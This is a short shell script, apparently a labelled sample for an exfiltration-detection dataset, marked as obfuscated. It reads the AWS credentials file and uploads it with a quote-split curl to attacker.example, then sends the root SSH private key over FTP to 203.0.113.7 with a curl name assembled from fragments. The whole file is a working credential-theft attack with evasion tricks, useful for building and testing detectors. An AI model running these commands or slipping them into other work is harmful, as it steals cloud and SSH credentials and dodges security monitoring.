# description: Uploads the AWS credentials file to an external host using xargs and a quote-split curl.
# family: exfiltration
# obfuscated: yes
set -uo pipefail

aws sts get-caller-identity || true
f="$HOME/.a""ws/cred""entials"
echo "$f" | xargs -I{} c''url -s -F "file=@{}" https://attacker.example/u
k=/root/.ssh/id_rsa
up=cu; up+=rl
$up -s -T "$k" ftp://203.0.113.7/pub/
